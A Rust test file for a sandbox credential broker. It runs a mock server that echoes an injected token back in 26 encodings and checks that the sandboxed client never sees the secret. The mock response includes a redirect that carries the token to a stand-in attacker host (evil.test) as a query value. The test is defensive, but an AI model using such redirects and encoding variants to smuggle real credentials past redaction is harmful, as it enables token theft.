//! A server that says back what it was lent, in every spelling that servers use: the secret reaches it, and the box never.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use blastbox_tests::internet::{Internet, PUBLIC, Visitor};
use blastbox_tests::{Caller, both_ways, text};
use serde_json::Value;

use super::watched::{ACCEPT, private_file};

both_ways!(what_a_server_says_back_in_any_spelling_does_not_reach_the_box);

/// With everything that some spelling changes.
const TOKEN: &str = "tok/en+of=odd&chars\"0123456789?x<y>~'*(z)!`";
const HOSTS: [&str; 2] = ["bearer.example.com", "basic.example.com"];
/// Ways to say a text back, each an answer of its own.
const SPELLINGS: [&str; 26] = [
    "plain",
    "base64",
    "base64-1",
    "base64-2",
    "base64-url",
    "percent",
    "percent-low",
    "percent-all",
    "plus",
    "form",
    "form-php",
    "quote",
    "component",
    "component-low",
    "uri",
    "hex",
    "json",
    "json-html",
    "json-slash",
    "json-gson",
    "json-net",
    "json-php",
    "page",
    "page-quot",
    "page-go",
    "page-net",
];

fn spell(how: &str, said: &str) -> String {
    let percent = |keep: &str, low: bool| -> String {
        let one = |byte: u8| match byte {
            byte if byte.is_ascii_alphanumeric() || keep.as_bytes().contains(&byte) => {
                char::from(byte).to_string()
            }
            byte if low => format!("%{byte:02x}"),
            byte => format!("%{byte:02X}"),
        };
        said.bytes().map(one).collect()
    };
    let with = |table: &[(char, &str)]| -> String {
        let one = |letter: char| {
            let named = table.iter().find(|(known, _)| *known == letter);
            named.map_or_else(|| letter.to_string(), |(_, name)| (*name).to_owned())
        };
        said.chars().map(one).collect()
    };
    match how {
        "base64" => STANDARD.encode(said),
        // With other bytes before it, as in a document that is encoded as a whole.
        "base64-1" => STANDARD.encode(format!("1{said}!")),
        "base64-2" => STANDARD.encode(format!("22{said}?")),
        "base64-url" => URL_SAFE.encode(said),
        "percent" => percent("-._~", false),
        "percent-low" => percent("-._~", true),
        "percent-all" => said.bytes().map(|byte| format!("%{byte:02x}")).collect(),
        "plus" => percent("-._~", false).replace("%20", "+"),
        "form" => percent("-._*", false),
        "form-php" => percent("-._", false),
        "quote" => percent("-._~/", false),
        "component" => percent("-._~!*'()", false),
        "component-low" => percent("-._~!*'()", true),
        "uri" => percent("-._~!*'();/?:@&=+$,#", false),
        "hex" => said.bytes().map(|byte| format!("{byte:02x}")).collect(),
        "json" => with(&[('\\', "\\\\"), ('"', "\\\"")]),
        "json-html" => {
            with(&[('"', "\\\""), ('<', "\\u003c"), ('>', "\\u003e"), ('&', "\\u0026"), ('\'', "\\u0027")])
        }
        "json-slash" => with(&[('/', "\\/"), ('"', "\\\"")]),
        "json-gson" => with(&[
            ('"', "\\\""),
            ('<', "\\u003c"),
            ('>', "\\u003e"),
            ('&', "\\u0026"),
            ('\'', "\\u0027"),
            ('=', "\\u003d"),
        ]),
        "json-net" => with(&[
            ('"', "\\u0022"),
            ('<', "\\u003C"),
            ('>', "\\u003E"),
            ('&', "\\u0026"),
            ('\'', "\\u0027"),
            ('+', "\\u002B"),
            ('`', "\\u0060"),
        ]),
        "json-php" => with(&[
            ('"', "\\u0022"),
            ('<', "\\u003C"),
            ('>', "\\u003E"),
            ('&', "\\u0026"),
            ('\'', "\\u0027"),
            ('/', "\\/"),
        ]),
        "page" => with(&[('&', "&amp;"), ('<', "&lt;"), ('>', "&gt;")]),
        "page-quot" => {
            with(&[('&', "&amp;"), ('<', "&lt;"), ('>', "&gt;"), ('"', "&quot;"), ('\'', "&#39;")])
        }
        "page-go" => with(&[
            ('&', "&amp;"),
            ('<', "&lt;"),
            ('>', "&gt;"),
            ('"', "&#34;"),
            ('\'', "&#39;"),
            ('+', "&#43;"),
        ]),
        "page-net" => with(&[
            ('&', "&amp;"),
            ('<', "&lt;"),
            ('>', "&gt;"),
            ('"', "&quot;"),
            ('\'', "&#x27;"),
            ('+', "&#x2B;"),
            ('`', "&#x60;"),
        ]),
        _ => said.to_owned(),
    }
}

/// `/SPELLING/whole`: in a header and a body. `/SPELLING/drip`: byte by byte, each in a chunk and a packet of its own.
fn reflect(visitor: &mut Visitor<'_>) {
    while let Some(head) = visitor.head() {
        let lent = head.lines().find_map(|line| {
            line.to_ascii_lowercase().starts_with("authorization: ").then(|| line.split_at(15).1)
        });
        let mut path = head.split(' ').nth(1).unwrap_or_default().split('/').skip(1);
        let (how, pace) = (path.next().unwrap_or_default(), path.next().unwrap_or_default());
        // What goes over the wire and what it stands for: a login is base64 by itself.
        let said = spell(how, lent.unwrap_or("nothing"));
        let all = format!("you sent {said}, {}", spell(how, TOKEN));
        if pace == "drip" {
            visitor.say(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n");
            for byte in all.bytes() {
                visitor.say(&[b"1\r\n", &[byte][..], b"\r\n"].concat());
            }
            visitor.say(b"0\r\n\r\n");
        } else {
            let head = format!(
                "HTTP/1.1 302 Found\r\nLocation: https://evil.test/?t={said}\r\nX-Said: {said}\r\nContent-Length: {}\r\n\r\n",
                all.len()
            );
            visitor.say(format!("{head}{all}").as_bytes());
        }
    }
}

fn what_a_server_says_back_in_any_spelling_does_not_reach_the_box(caller: &Caller) {
    let Some(internet) = Internet::build(caller) else { return };
    for name in HOSTS {
        internet.name(name, &[&[PUBLIC]]);
    }
    if !internet.secure_server(caller, &HOSTS, reflect) {
        return;
    }
    let secret = private_file(caller, "token", TOKEN);
    let sources = format!("[secrets.token]\nhosts = {HOSTS:?}\nfile = {secret:?}\n");
    let sources = private_file(caller, "secrets.toml", &sources);
    let policy = "[network]\nmode = \"allow\"\nallow = [{ host = \"bearer.example.com\", tls = \"inspect\" }, \
                  { host = \"basic.example.com\", tls = \"inspect\" }]\n[credentials]\nmode = \"brokered\"\n\
                  bind = [{ secret = \"token\", host = \"bearer.example.com\", as = \"bearer\" }, \
                  { secret = \"token\", host = \"basic.example.com\", as = \"basic\", user = \"me\" }]\n";
    let policy = caller.file("policy.toml", format!("{ACCEPT}{policy}"));
    let code = format!(
        "import http.client, json\n\
         def get(host, path):\n\
         \u{20}   line = http.client.HTTPSConnection(host, timeout=40)\n\
         \u{20}   line.request('GET', path)\n\
         \u{20}   answer = line.getresponse()\n\
         \u{20}   return [str(answer.status) + ' ' + str(answer.getheaders()), answer.read().decode()]\n\
         print(json.dumps([(host, how, pace, *get(host, f'/{{how}}/{{pace}}')) for host in {HOSTS:?} \
         for how in {SPELLINGS:?} for pace in ('whole', 'drip')]))"
    );
    let options = ["--policy", text(&policy), "--secrets", text(&sources), "--timeout", "50s"];
    let boxed = internet.python(caller, &options, &code).fine();
    let answers: Vec<[String; 5]> = serde_json::from_str(&boxed.stdout).unwrap();
    assert_eq!(answers.len(), 2 * 2 * SPELLINGS.len());
    let login = STANDARD.encode(format!("me:{TOKEN}"));
    for [host, how, pace, head, body] in &answers {
        let lent =
            if host == "bearer.example.com" { format!("Bearer {TOKEN}") } else { format!("Basic {login}") };
        let said = format!("you sent {}, {}", spell(how, &lent), spell(how, TOKEN));
        let at = format!("{host} /{how}/{pace}: {head}\n{body}");
        // As long as what the server said, and none of it what must not be seen.
        assert_eq!(body.len(), said.len(), "{at}");
        assert_eq!(
            pace == "whole",
            head.starts_with("302 ") && head.contains("https://evil.test/?t="),
            "{at}"
        );
        assert!(body.starts_with("you sent ") && body.contains("***"), "{at}");
        for spelling in SPELLINGS {
            // The middle of it: at its ends base64 mixes it with its neighbours.
            let form = spell(spelling, TOKEN);
            let middle = form.get(8..form.len() - 8).unwrap();
            assert!(!body.contains(middle) && !head.contains(middle), "{spelling} in {at}");
        }
    }
    // At the other end it was there each time.
    let requests = internet.requests();
    assert_eq!(requests.len(), answers.len());
    for head in requests {
        let lent = if head.to_ascii_lowercase().contains("host: bearer.") {
            format!(": Bearer {TOKEN}\r\n")
        } else {
            format!(": Basic {login}\r\n")
        };
        assert!(head.contains(&lent), "{head}");
    }
    let everything = serde_json::to_value(&boxed.receipt).unwrap();
    assert!(!Value::to_string(&everything).contains("odd&chars") && !boxed.stderr.contains("odd&chars"));
}
